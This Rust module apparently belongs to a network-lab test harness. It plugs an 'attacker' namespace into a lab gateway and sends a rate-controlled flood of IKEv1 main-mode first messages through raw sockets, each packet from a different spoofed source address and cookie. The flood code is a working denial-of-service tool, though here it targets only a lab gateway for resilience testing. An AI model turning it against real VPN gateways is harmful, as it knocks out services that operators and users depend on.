//! A flood of first IKE messages from addresses that their sender does not have.
//!
//! The attacker has a cable of its own to the gateway, and the gateway routes the spoofed addresses
//! back into it: what the gateway answers is counted there and does not crowd the captured segment.

use std::io;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use isthmus_interop::{GATEWAY, Lab, LabError, Namespace, cable};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

/// The attacker's place.
#[derive(Debug)]
pub struct Attacker {
    host: Namespace,
}

/// What went over the attacker's cable.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Traffic {
    /// Octets of the attacker's packets.
    pub sent: u64,
    /// Octets of the gateway's answers.
    pub answered: u64,
    /// The attacker's packets.
    pub packets: u64,
}

/// A running flood. Dropping it ends it.
#[derive(Debug)]
pub struct Flood {
    stop: Arc<AtomicBool>,
    thread: Option<JoinHandle<io::Result<u64>>>,
}

impl Attacker {
    /// Plugs an attacker into the gateway of `lab`.
    pub fn plug_in(lab: &Lab) -> Result<Self, LabError> {
        let host = lab.namespace("attacker")?;
        cable(&host, "eth0", lab.gateway(), "flood0")?;
        host.ip("address add 192.0.2.2/24 dev eth0")?;
        host.ip(&format!("route add {GATEWAY}/32 via 192.0.2.1"))?;
        lab.gateway().ip("address add 192.0.2.1/24 dev flood0")?;
        lab.gateway().ip("route add 198.18.0.0/15 via 192.0.2.2")?;
        Ok(Self { host })
    }

    /// Starts to send `total` first messages of main mode, `rate` each second, each from another
    /// address.
    pub fn flood(&self, rate: u32, total: u64) -> Result<Flood, LabError> {
        let socket = self.host.with(|| {
            let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(UDP)))?;
            socket.set_header_included_v4(true)?;
            socket.set_nonblocking(false)?;
            Ok(socket)
        })?;
        let stop = Arc::new(AtomicBool::new(false));
        let stopped = Arc::clone(&stop);
        let thread = thread::spawn(move || send(&socket, rate, total, &stopped));
        Ok(Flood { stop, thread: Some(thread) })
    }

    /// What has gone over the cable since it was plugged in, link headers included.
    pub fn traffic(&self) -> Result<Traffic, LabError> {
        let counter = |name: &str| {
            let path = format!("/sys/class/net/eth0/statistics/{name}");
            let text = isthmus_interop::run(self.host.command("cat").arg(path))?;
            text.trim().parse().map_err(|_| LabError::unexpected(format!("{name} is `{text}`")))
        };
        Ok(Traffic {
            sent: counter("tx_bytes")?,
            answered: counter("rx_bytes")?,
            packets: counter("tx_packets")?,
        })
    }
}

impl Flood {
    /// Waits until all messages are sent and answers how many a second there were.
    pub fn finish(mut self) -> Result<u64, LabError> {
        let failed = |source| LabError::Io { what: "the flood".to_owned(), source };
        let sent = self.thread.take().map(JoinHandle::join);
        let sent = sent.and_then(Result::ok).unwrap_or_else(|| Err(io::Error::other("it died")));
        sent.map_err(failed)
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// Sends in slices of [`SLICE`], catches up after a slice that the machine had no time for, and answers
/// the rate that came of it.
fn send(socket: &Socket, rate: u32, total: u64, stop: &AtomicBool) -> io::Result<u64> {
    let target = SockAddr::from(SocketAddrV4::new(GATEWAY, 0));
    let (start, mut sent) = (Instant::now(), 0_u64);
    while sent < total && !stop.load(Ordering::Relaxed) {
        let due = u64::try_from(start.elapsed().as_micros()).unwrap_or(u64::MAX);
        let due = total.min(due * u64::from(rate) / 1_000_000);
        while sent < due {
            match socket.send_to(&packet(sent), &target) {
                Ok(_) => {}
                Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
                Err(error) if error.raw_os_error() == Some(NO_BUFFERS) => {}
                Err(error) => return Err(error),
            }
            sent += 1;
        }
        thread::sleep(SLICE);
    }
    let millis = u64::try_from(start.elapsed().as_millis()).unwrap_or(u64::MAX);
    Ok(sent * 1000 / millis.max(1))
}

/// The `number`th message: an IPv4 packet whose source address, source port and initiator cookie no
/// other has. The kernel fills the header's checksum in; UDP goes without one.
fn packet(number: u64) -> Vec<u8> {
    let spread = number.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let [a, b, c, ..] = spread.to_be_bytes();
    let source = Ipv4Addr::new(198, 0x12 | (a & 1), b, c);
    let message = first_message(spread | 1);
    let length = |octets: usize| u16::try_from(octets).unwrap_or(u16::MAX).to_be_bytes();
    let mut packet = vec![0x45, 0];
    packet.extend(length(20 + 8 + message.len()));
    packet.extend([0, 0, 0, 0, 64, 17, 0, 0]);
    packet.extend(source.octets());
    packet.extend(GATEWAY.octets());
    packet.extend([0x01, 0xf4, 0x01, 0xf4]);
    packet.extend(length(8 + message.len()));
    packet.extend([0, 0]);
    packet.extend(message);
    packet
}

/// Main mode, message 1: AES-256, SHA-256, modp2048, pre-shared key, and the vendor id of RFC 3947.
fn first_message(cookie: u64) -> Vec<u8> {
    const TRANSFORM: [u8; 36] = [
        0, 0, 0, 36, 1, 1, 0, 0, 0x80, 1, 0, 7, 0x80, 14, 1, 0, 0x80, 2, 0, 4, 0x80, 4, 0, 14,
        0x80, 3, 0, 1, 0x80, 11, 0, 1, 0x80, 12, 0x70, 0x80,
    ];
    const NAT_T: [u8; 16] = [
        0x4a, 0x13, 0x1c, 0x81, 0x07, 0x03, 0x58, 0x45, 0x5c, 0x57, 0x28, 0xf2, 0x0e, 0x95, 0x45,
        0x2f,
    ];
    let mut message = cookie.to_be_bytes().to_vec();
    message.extend([0; 8]);
    message.extend([1, 0x10, 2, 0, 0, 0, 0, 0, 0, 0, 0, 104]);
    message.extend([13, 0, 0, 56, 0, 0, 0, 1, 0, 0, 0, 1]);
    message.extend([0, 0, 0, 44, 1, 1, 0, 1]);
    message.extend(TRANSFORM);
    message.extend([0, 0, 0, 20]);
    message.extend(NAT_T);
    message
}

/// UDP's protocol number.
const UDP: i32 = 17;
/// ENOBUFS: the device's queue is full for a moment.
const NO_BUFFERS: i32 = 105;
/// How finely the rate is kept.
const SLICE: Duration = Duration::from_millis(1);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_as_long_as_they_say_and_differ() {
        let message = first_message(7);
        assert_eq!(message.len(), 104);
        assert_eq!(message[24..28], 104_u32.to_be_bytes());
        let packets: Vec<_> = (0..100).map(packet).collect();
        let mut sources: Vec<_> = packets.iter().map(|packet| packet[12..16].to_vec()).collect();
        sources.sort();
        sources.dedup();
        assert_eq!(sources.len(), packets.len());
    }
}
